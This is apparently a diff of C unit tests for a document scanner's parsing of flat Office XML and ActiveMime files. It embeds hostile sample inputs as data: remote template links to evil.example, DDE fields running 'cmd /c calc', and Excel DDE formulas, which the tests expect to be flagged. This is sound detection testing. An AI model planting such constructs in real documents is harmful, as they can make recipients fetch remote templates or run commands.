@@ -12,6 +12,8 @@
 
 #include <stdio.h>
 
+#include <zlib.h>
+
 #include "objects/filetype.h"
 #include "objects/object.h"
 
@@ -633,6 +635,123 @@ test_hostile_xml(void **state)
 	g_string_free(deep, TRUE);
 }
 
+/* ---- Office documents saved as one XML file (flatxml.c), ActiveMime ---- */
+
+#define W2003 "<?xml version=\"1.0\"?>\n<?mso-application progid=\"Word.Document\"?>\n" \
+	"<w:wordDocument xmlns:w=\"http://schemas.microsoft.com/office/word/2003/wordml\">"
+
+static void
+test_flat_forms(void **state)
+{
+	(void)state;
+	/* Flat OPC: the parts are children named as in a zip, ooxml.c reads them */
+	static const char opc[] = "<?xml version=\"1.0\"?>\n"
+	    "<pkg:package xmlns:pkg=\"http://schemas.microsoft.com/office/2006/xmlPackage\">"
+	    "<pkg:part pkg:name=\"/word/_rels/settings.xml.rels\"><pkg:xmlData>"
+	    "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
+	    "<Relationship Id=\"r1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/"
+	    "relationships/attachedTemplate\" Target=\"https://evil.example/t.dotm\" "
+	    "TargetMode=\"External\"/></Relationships></pkg:xmlData></pkg:part>"
+	    "<pkg:part pkg:name=\"/word/document.xml\"><pkg:xmlData><w:document xmlns:w=\"urn:w\">"
+	    "<w:p a=\"&lt;&amp;&quot;\"><w:fldSimple w:instr=\" DDE cmd &quot;/c calc&quot; x\"/>"
+	    "<w:t>1 &lt; 2</w:t></w:p></w:document></pkg:xmlData></pkg:part>"
+	    "<pkg:part pkg:name=\"/word/media/note.txt\"><pkg:binaryData>aGVsbG8g\n"
+	    "d29ybGQ=</pkg:binaryData></pkg:part></pkg:package>";
+	struct obj_tree *t = build("a.xml", (const uint8_t *)opc, sizeof(opc) - 1);
+	expect_root(t, "flatopc", "TEMPLATE_INJECTION(attachedTemplate https://evil.example/t.dotm)\n"
+	    "DDE_FIELD(DDE cmd \"/c calc\" x)", "https://evil.example/t.dotm");
+	const struct mobj *doc = by_path(t, "a.xml/word/document.xml");
+	assert_non_null(doc);
+	assert_string_equal(doc->type->name, "xml");
+	const struct mobj *note = by_path(t, "a.xml/word/media/note.txt");
+	assert_non_null(note);
+	assert_int_equal(note->len, 11);
+	assert_memory_equal(note->data, "hello world", 11);
+	obj_tree_free(t);
+
+	/* Word 2003 XML: fields, links, a remote template, w:binData parts */
+	static const char w[] = W2003
+	    "<w:docPr><w:attachedTemplate w:val=\"\\\\evil.example\\s\\t.dot\"/></w:docPr>"
+	    "<w:body><w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>"
+	    "DDE</w:instrText></w:r><w:r><w:instrText>AUTO cmd \"/c calc\"</w:instrText></w:r>"
+	    "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r>"
+	    "<w:hlink w:dest=\"http://link.example/a\"><w:r><w:t>x</w:t></w:r></w:hlink>"
+	    "<w:fldSimple w:instr=\"HYPERLINK &quot;http://field.example/&quot;\"/></w:p>"
+	    "<w:binData w:name=\"wordml://1.txt\">aGVsbG8=</w:binData></w:body></w:wordDocument>";
+	t = build("a.doc", (const uint8_t *)w, sizeof(w) - 1);
+	expect_root(t, "wordxml", "TEMPLATE_INJECTION(attachedTemplate \\\\evil.example\\s\\t.dot)\n"
+	    "DDE_FIELD(DDEAUTO cmd \"/c calc\")",
+	    "\\\\evil.example\\s\\t.dot\nhttp://link.example/a\nhttp://field.example/");
+	const struct mobj *bin = by_path(t, "a.doc/wordml://1.txt");
+	assert_non_null(bin);
+	assert_int_equal(bin->len, 5);
+	obj_tree_free(t);
+
+	/* a local template is not an injection; damage is a fact */
+	static const char w2[] = W2003 "<w:docPr><w:attachedTemplate w:val=\"Normal.dotm\"/>"
+	    "</w:docPr><w:body><w:p>";
+	t = build("b.doc", (const uint8_t *)w2, sizeof(w2) - 1);
+	expect_root(t, "wordxml", "DOCUMENT_MALFORMED(flat XML: *", "");
+	obj_tree_free(t);
+
+	/* Excel 2003 XML: DDE formulas (the CSV rule), external links */
+	static const char x[] = "<?xml version=\"1.0\"?>\n<Workbook xmlns=\"urn:schemas-microsoft-com:"
+	    "office:spreadsheet\" xmlns:ss=\"urn:schemas-microsoft-com:office:spreadsheet\">"
+	    "<Worksheet><Table><Row><Cell ss:Formula=\"=SUM(R1C1:R2C1)\"/>"
+	    "<Cell ss:Formula=\"=cmd|'/c calc'!A0\"/><Cell ss:Formula=\"=DDE(&quot;cmd&quot;;"
+	    "&quot;/c calc&quot;;&quot;x&quot;)\"/><Cell ss:HRef=\"#Sheet1!A1\"/>"
+	    "<Cell ss:HRef=\"https://pay.example/\"/></Row></Table></Worksheet></Workbook>";
+	t = build("b.xls", (const uint8_t *)x, sizeof(x) - 1);
+	expect_root(t, "excelxml", "DDE_FIELD(=cmd|'/c calc'!A0)\n"
+	    "DDE_FIELD(=DDE(\"cmd\";\"/c calc\";\"x\"))", "https://pay.example/");
+	obj_tree_free(t);
+}
+
+static void
+test_activemime_damaged(void **state)
+{
+	(void)state;
+	/* no zlib stream at any known offset: damaged, no child */
+	static const uint8_t junk[] = "ActiveMime\0\0\x01\xf0\x04\0\0\0\xff\xff\xff\xff"
+	    "0123456789abcdefghijklmnopqrstuvwxyz0123456789abcdefghijklmnopqrstuvwxyz";
+	struct obj_tree *t = build("editdata.mso", junk, sizeof(junk) - 1);
+	const struct mobj *root = g_ptr_array_index(t->roots, 0);
+	assert_string_equal(root->type->name, "activemime");
+	assert_true(root->flags & OBJ_DAMAGED);
+	assert_int_equal(root->children->len, 0);
+	obj_tree_free(t);
+
+	/* a stream cut short: the child is damaged and truncated */
+	uint8_t in[4096], z[8192];
+	for (size_t i = 0; i < sizeof(in); i++)
+		in[i] = (uint8_t)(i * 7 + (i >> 5));
+	uLongf zn = sizeof(z);
+	assert_int_equal(compress(z, &zn, in, sizeof(in)), Z_OK);
+	GByteArray *a = g_byte_array_new();
+	uint8_t h[0x32];
+	memset(h, 0, sizeof(h));
+	memcpy(h, "ActiveMime", 10);
+	h[0x1E] = 4;
+	g_byte_array_append(a, h, sizeof(h));
+	g_byte_array_append(a, z, (guint)(zn / 2));
+	t = build("oledata.mso", a->data, a->len);
+	const struct mobj *c = by_path(t, "oledata.mso/oledata.ole");
+	assert_non_null(c);
+	assert_true(c->flags & OBJ_DAMAGED);
+	obj_tree_free(t);
+	/* whole: inflated exactly */
+	g_byte_array_set_size(a, sizeof(h));
+	g_byte_array_append(a, z, (guint)zn);
+	t = build("oledata.mso", a->data, a->len);
+	c = by_path(t, "oledata.mso/oledata.ole");
+	assert_non_null(c);
+	assert_false(c->flags & OBJ_DAMAGED);
+	assert_int_equal(c->len, sizeof(in));
+	assert_memory_equal(c->data, in, sizeof(in));
+	obj_tree_free(t);
+	g_byte_array_unref(a);
+}
+
 int
 main(void)
 {
@@ -647,6 +766,8 @@ main(void)
 		cmocka_unit_test(test_made_docx),
 		cmocka_unit_test(test_made_xlsm),
 		cmocka_unit_test(test_hostile_xml),
+		cmocka_unit_test(test_flat_forms),
+		cmocka_unit_test(test_activemime_damaged),
 		cmocka_unit_test(test_rtf_issue_251),
 		cmocka_unit_test(test_rtf_clam),
 		cmocka_unit_test(test_rtf_made),
